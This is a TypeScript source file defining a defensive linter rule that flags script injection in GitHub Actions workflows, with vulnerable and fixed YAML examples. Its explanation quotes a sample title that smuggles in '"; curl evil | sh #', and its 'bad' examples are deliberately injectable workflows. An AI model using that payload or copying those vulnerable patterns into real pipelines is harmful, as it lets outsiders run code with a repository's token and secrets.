import { rule } from "../../rule.ts";
import { taintOf } from "../../taint/document-taint.ts";
import { injectionFix } from "./injection-fix.ts";
import { crossesBranches, injectionLevel, injectionMessage, injectionsIn, wayTo } from "./injection.ts";

export const scriptInjection = rule({
  id: "script-injection",
  family: "security",
  levels: { recommended: "error", strict: "error" },
  fixable: true,
  summary: "No text that outsiders write becomes part of a script.",
  why: 'A `${{ }}` in a script is replaced before any program reads it, so a title such as `"; curl evil | sh #` is run as code (GitHub\'s security hardening guide, "Script injections"). The value is followed through `env`, step and job outputs and the matrix; it is an error where the run holds the repository\'s token and secrets, and a warning where it runs without them.',
  bad: [
    `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue \${{ github.event.issue.title }}"
`,
    `on: pull_request_target
jobs:
  meta:
    runs-on: ubuntu-latest
    outputs:
      title: \${{ steps.read.outputs.title }}
    steps:
      - id: read
        env:
          TITLE: \${{ github.event.pull_request.title }}
        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"
  announce:
    needs: meta
    runs-on: ubuntu-latest
    steps:
      - run: ./announce '\${{ needs.meta.outputs.title }}'
`,
    `on: issue_comment
jobs:
  reply:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v8
        with:
          script: |
            const text = "\${{ github.event.comment.body }}";
            console.log(text);
`,
  ],
  good: [
    `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          ISSUE_TITLE: \${{ github.event.issue.title }}
        run: echo "New issue \${ISSUE_TITLE}"
`,
    `on: pull_request_target
jobs:
  skip:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ contains(github.event.pull_request.title, '[skip]') }} \${{ github.event.number }}"
`,
  ],
  document(document, { report }) {
    for (const injection of injectionsIn(document, taintOf(document))) {
      if (injection.taint.trust !== "anyone" && !crossesBranches(injection.taint)) continue;
      report(injection.at, injectionMessage(injection), {
        level: injectionLevel(injection),
        related: wayTo(injection.taint, document, injection.at),
        fix: injectionFix(document, injection.sink, injection.site),
      });
    }
  },
});
